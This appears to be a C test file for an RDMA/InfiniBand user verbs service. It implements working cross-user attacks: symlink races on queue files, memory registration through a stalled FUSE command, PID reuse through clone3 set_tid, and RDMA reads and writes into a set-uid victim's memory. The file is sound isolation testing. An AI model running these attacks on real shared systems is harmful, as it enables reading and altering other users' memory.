// Attacks that try to get access to another user's resources.
#include "attack.h"
#include <linux/sched.h>

// neighbour is the victim of most attacks. It transfers data until it is killed. For each line of input it prints the
// number of operations since the last line, and the duration of the longest one in milliseconds.
int neighbour(int argc, char **argv)
{
	struct loop l = make_loop();
	int atomics = argc > 0 && !strcmp(argv[0], "atomics");
	double longest = 0;
	long count = 0;
	struct pollfd in = {0, POLLIN, 0};
	say("ready");
	for (;; usleep(2000)) {
		double began = now();
		int op = atomics && count % 4 == 3;
		enum ibv_wc_status s = move(&l, op ? IBV_WR_ATOMIC_FETCH_AND_ADD : IBV_WR_RDMA_WRITE, l.buf, op ? 8 : 64,
			l.buf + PAGE, l.mr->rkey);
		if (s != IBV_WC_SUCCESS) {
			say("failed: %s", (int)s < 0 ? "no completion" : ibv_wc_status_str(s));
			return 0;
		}
		count++;
		if (now() - began > longest)
			longest = now() - began;
		if (poll(&in, 1, 0) > 0) {
			await_line();
			say("%ld %.0f", count, longest * 1000);
			longest = count = 0;
		}
	}
}

static char session_dir[512];

// find_dir finds the directory of the queue files through an open device.
static void find_dir(int fd)
{
	char link[64];
	snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
	ssize_t n = readlink(link, session_dir, sizeof session_dir - 1);
	CHECK(n > 0);
	session_dir[n] = 0;
	*strrchr(session_dir, '/') = 0;
}

// swap VICTIM TRIES: replaces the queue file by a symbolic link while the service creates it.
int swap(int argc, char **argv)
{
	CHECK(argc == 2);
	struct ibv_context *ctx = open_device();
	find_dir(ctx->cmd_fd);
	pid_t child = fork();
	if (!child) {
		// The names are numbered. The next file is replaced as soon as it exists. Every fourth name is taken in
		// advance.
		int watch = inotify_init1(0);
		CHECK(!prctl(PR_SET_PDEATHSIG, SIGKILL));
		inotify_add_watch(watch, session_dir, IN_CREATE);
		for (unsigned n = 0;; n++) {
			char events[4096], temp[600], target[1100];
			snprintf(temp, sizeof temp, "%s/x%u", session_dir, n);
			if (symlink(argv[0], temp)) {
				say("the directory is not ours to write to: %s", strerror(errno));
				return 0;
			}
			ssize_t got = read(watch, events, sizeof events);
			for (char *p = events; p < events + got;) {
				struct inotify_event *e = (void *)p;
				if (e->len && strstr(e->name, "queues")) {
					snprintf(target, sizeof target, "%s/%s", session_dir, e->name);
					rename(temp, target);
				}
				p += sizeof *e + e->len;
			}
			unlink(temp);
		}
	}
	usleep(20000);
	for (int i = 0; i < atoi(argv[1]); i++) {
		int fd = open("/dev/infiniband/uverbs0", O_RDWR);
		char b[16] = "";
		if (fd >= 0 && pread(fd, b, sizeof b - 1, 0) > 0 && b[0])
			say("the device file reads %s", b);
		close(fd);
	}
	kill(child, SIGKILL);
	waitpid(child, NULL, 0);
	say("done");
	return 0;
}

// stall_command FUSEFILE: prints a command to register memory, in hexadecimal. The test stores it in the file, and the
// program issues it from there.
int stall_command(int argc, char **argv)
{
	CHECK(argc == 1);
	struct ibv_context *ctx = open_device();
	struct ibv_pd *pd = ibv_alloc_pd(ctx);
	CHECK(pd);
	map_at(SECRET_AT, PAGE);
	map_at(ANSWER_AT, PAGE);
	struct ib_uverbs_reg_mr req = {.response = (uintptr_t)ANSWER_AT, .start = (uintptr_t)SECRET_AT, .length = PAGE,
		.hca_va = (uintptr_t)SECRET_AT, .pd_handle = pd->handle,
		.access_flags = IBV_ACCESS_LOCAL_WRITE | IBV_ACCESS_REMOTE_READ | IBV_ACCESS_REMOTE_WRITE};
	char command[256];
	size_t n = put_command(command, IB_USER_VERBS_CMD_REG_MR, &req, sizeof req, sizeof(struct ib_uverbs_reg_mr_resp));
	int fd = open(argv[0], O_RDONLY);
	CHECK(fd >= 0);
	char *page = mmap(NULL, PAGE, PROT_READ, MAP_PRIVATE, fd, 0);
	CHECK(page != MAP_FAILED);
	printf("%d ", getpid());
	for (size_t i = 0; i < n; i++)
		printf("%02x", (unsigned char)command[i]);
	say("%s", "");
	ssize_t done = write(ctx->cmd_fd, page, n);
	say("written %zd: %s", done, done < 0 ? strerror(errno) : "");
	say("answer %s", *(uint32_t *)ANSWER_AT || ((uint32_t *)ANSWER_AT)[1] ? "has come" : "is missing");
	return 0;
}

// reuse PID UID: as root, starts a process with that number and user, and with the addresses of stall_command mapped.
// For each line of input it prints the number of changed bytes.
int reuse(int argc, char **argv)
{
	CHECK(argc == 2);
	pid_t want = atoi(argv[0]);
	struct clone_args args = {.exit_signal = SIGCHLD, .set_tid = (uintptr_t)&want, .set_tid_size = 1};
	double end = now() + 5;
	long pid;
	while ((pid = syscall(SYS_clone3, &args, sizeof args)) < 0 && errno == EEXIST && now() < end)
		usleep(100); // the previous process has not been reaped
	CHECK(pid >= 0);
	if (pid) {
		waitpid(pid, NULL, 0);
		return 0;
	}
	CHECK(!setresuid(atoi(argv[1]), atoi(argv[1]), atoi(argv[1])));
	memset(map_at(SECRET_AT, PAGE), 0x55, PAGE);
	memset(map_at(ANSWER_AT, PAGE), 0x55, PAGE);
	say("number %d", getpid());
	for (;;) {
		await_line();
		int changed = 0;
		for (int i = 0; i < PAGE; i++)
			changed += SECRET_AT[i] != 0x55 || ANSWER_AT[i] != 0x55;
		say("changed %d", changed);
	}
}

// victim [SECONDS]: a program that never registers memory, with a secret at a known address.
int victim(int argc, char **argv)
{
	map_at(SECRET_AT, PAGE);
	strcpy(SECRET_AT, "top secret");
	setuid(0); // for a set-uid program
	for (double end = now() + (argc > 0 ? atof(argv[0]) : 1); now() < end; usleep(1000))
		;
	say("victim of user %d: %s", geteuid(), strcmp(SECRET_AT, "top secret") ? "its memory has been changed" : "unharmed");
	return 0;
}

// exec_region HOW PROGRAM [ARGUMENT...]: registers memory, shares the device with a child, and executes the program.
// The child then reads and writes the program's memory.
int exec_region(int argc, char **argv)
{
	CHECK(argc >= 2);
	int flags = IBV_ACCESS_LOCAL_WRITE | IBV_ACCESS_REMOTE_WRITE | IBV_ACCESS_REMOTE_READ;
	if (!strcmp(argv[0], "on-demand"))
		flags |= IBV_ACCESS_ON_DEMAND;
	struct loop l = make_loop();
	strcpy(map_at(SECRET_AT, PAGE), "before");
	struct ibv_mr *mr = ibv_reg_mr(l.pd, SECRET_AT, PAGE, flags);
	CHECK(mr);
	int gone[2];
	CHECK(!pipe2(gone, O_CLOEXEC));
	int out = dup(1);
	pid_t child = fork();
	CHECK(child >= 0);
	if (child) {
		fcntl(out, F_SETFD, FD_CLOEXEC);
		execv(argv[1], argv + 1);
		CHECK(!"exec");
	}
	// The end of file shows that the exec has happened.
	close(gone[1]);
	char c;
	struct loop mine = share_loop(&l);
	read(gone[0], &c, 1);
	usleep(100000);
	if (mine.mr) {
		enum ibv_wc_status s = move(&mine, IBV_WR_RDMA_READ, mine.buf, 64, SECRET_AT, mr->rkey);
		say("read: %s: %s", (int)s < 0 ? "no completion" : ibv_wc_status_str(s), s ? "" : mine.buf);
		if (s)
			renew(&mine);
		strcpy(mine.buf, "overwritten");
		s = move(&mine, IBV_WR_RDMA_WRITE, mine.buf, 64, SECRET_AT, mr->rkey);
		say("write: %s", (int)s < 0 ? "no completion" : ibv_wc_status_str(s));
	}
	return 0;
}

// user_namespace open | pin BYTES
int user_namespace(int argc, char **argv)
{
	if (!strcmp(argv[0], "open")) {
		int fd = open("/dev/infiniband/uverbs0", O_RDWR);
		say("open: %s", fd < 0 ? strerror(errno) : "success");
		say("access: %s", access("/dev/infiniband/uverbs0", R_OK | W_OK) ? strerror(errno) : "success");
		return 0;
	}
	CHECK(argc == 2);
	size_t n = atol(argv[1]);
	struct ibv_pd *pd = ibv_alloc_pd(open_device());
	CHECK(pd);
	struct ibv_mr *mr = ibv_reg_mr(pd, map_at(NULL, n), n, IBV_ACCESS_LOCAL_WRITE);
	say("pin: %s", mr ? "success" : strerror(errno));
	return 0;
}

// read_only: tries the operations of a file that was opened for reading only.
int read_only(int argc, char **argv)
{
	int fd = open("/dev/infiniband/uverbs0", O_RDWR);
	say("open for both: %s", fd < 0 ? strerror(errno) : "success");
	fd = open("/dev/infiniband/uverbs0", O_RDONLY);
	say("open for reading: %s", fd < 0 ? strerror(errno) : "success");
	if (fd < 0)
		return 0;
	struct ib_uverbs_get_context_resp resp;
	struct ib_uverbs_get_context req = {.response = (uintptr_t)&resp};
	say("write: %s", raw_command(fd, IB_USER_VERBS_CMD_GET_CONTEXT, &req, sizeof req, sizeof resp) < 0 ? strerror(errno) : "success");
	say("flags: %s", (fcntl(fd, F_GETFL) & O_ACCMODE) == O_RDONLY ? "read only" : "not read only");
	return 0;
}

static struct loop writers;
static volatile uint32_t key;
static volatile int written;

// write_always writes to the region with the key. It creates new queue pairs after each failed write.
static void *write_always(void *unused)
{
	for (;;) {
		uint32_t k = key;
		int depth = k ? 12 : 0, bad = 0;
		for (int i = 0; i < depth; i++)
			post(&writers, IBV_WR_RDMA_WRITE, writers.buf, 64, SECRET_AT, k);
		for (int i = 0; i < depth; i++) {
			enum ibv_wc_status s;
			bad += !finish(&writers, 10, &s) || s;
		}
		if (bad) {
			key = 0;
			renew(&writers);
		} else if (k)
			written++;
	}
}

// spin keeps the processors busy, which delays the supervisor's notification.
static void *spin(void *unused)
{
	for (;;)
		;
}

// recycle ROUNDS: runs as root, which can choose process numbers; other users can create many processes instead. A
// process registers memory and exits during a write to it, and another process gets its number at once.
int recycle(int argc, char **argv)
{
	CHECK(argc == 1);
	writers = make_loop();
	memset(writers.buf, 'x', PAGE);
	volatile uint32_t *shared = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	pthread_t t;
	CHECK(!pthread_create(&t, NULL, write_always, NULL));
	for (int i = 0; i < 3; i++)
		CHECK(!pthread_create(&t, NULL, spin, NULL));
	memset(map_at(SECRET_AT, PAGE), 0x55, PAGE); // for the next processes, which have a copy
	int changed = 0, used = 0;
	for (int i = 0; i < atoi(argv[0]); i++) {
		*shared = 0;
		pid_t p = fork();
		if (!p) {
			struct ibv_mr *mr = ibv_reg_mr(writers.pd, SECRET_AT, PAGE, IBV_ACCESS_LOCAL_WRITE | IBV_ACCESS_REMOTE_WRITE);
			CHECK(mr);
			*shared = mr->rkey;
			pause();
		}
		double end = now() + 2;
		while (!*shared && now() < end)
			sched_yield();
		written = 0;
		key = *shared;
		while (written < 3 && now() < end)
			sched_yield();
		used += written >= 3;
		struct clone_args args = {.exit_signal = SIGCHLD, .set_tid = (uintptr_t)&p, .set_tid_size = 1};
		kill(p, SIGKILL);
		CHECK(waitpid(p, NULL, 0) == p);
		long v = syscall(SYS_clone3, &args, sizeof args);
		if (!v) {
			int bad = 0;
			for (end = now() + 0.005; now() < end && !bad;)
				bad = *(volatile char *)SECRET_AT != 0x55;
			_exit(bad);
		}
		int status;
		CHECK(v > 0 && waitpid(v, &status, 0) == v);
		changed += WIFEXITED(status) && WEXITSTATUS(status);
		for (end = now() + 1; key && now() < end;)
			sched_yield();
	}
	say("used %d, changed %d", used, changed);
	_exit(0);
}
